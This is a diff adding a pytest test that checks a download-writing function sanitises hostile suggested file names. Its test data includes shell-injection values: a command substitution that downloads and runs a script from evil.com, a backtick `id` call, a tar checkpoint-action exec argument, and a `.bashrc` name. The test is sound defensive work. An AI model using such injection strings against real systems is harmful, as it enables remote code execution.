@@ -418,6 +418,21 @@ def test_a_file_is_never_overwritten_by_chance(tmp_path: Path) -> None:
     assert files.write_new(str(tmp_path), "screenshot.jpg", b"", is_numbered=True).name == "screenshot-1.jpg"
 
 
+@pytest.mark.parametrize(
+    ("suggested", "written"),
+    [
+        ("$(curl evil.com -o x; sh x).csv", "_(curl evil.com -o x_ sh x).csv"),
+        ("`id`.csv", "_id_.csv"),
+        ("--checkpoint-action=exec=sh x", "_-checkpoint-action=exec=sh x"),
+        (".bashrc", "_bashrc"),
+        ("it's a & b; c.csv", "it_s a _ b_ c.csv"),
+        ("Umsätze [2026] (1), 50%.csv", "Umsätze [2026] (1), 50%.csv"),
+    ],
+)
+def test_a_shell_obeys_nothing_in_the_name_of_a_download(tmp_path: Path, suggested: str, written: str) -> None:
+    assert files.write_new(str(tmp_path), suggested, b"").name == written
+
+
 def test_a_file_with_a_login_is_private_even_if_it_was_not(tmp_path: Path) -> None:
     path = tmp_path / "state.json"
     path.touch(0o644)
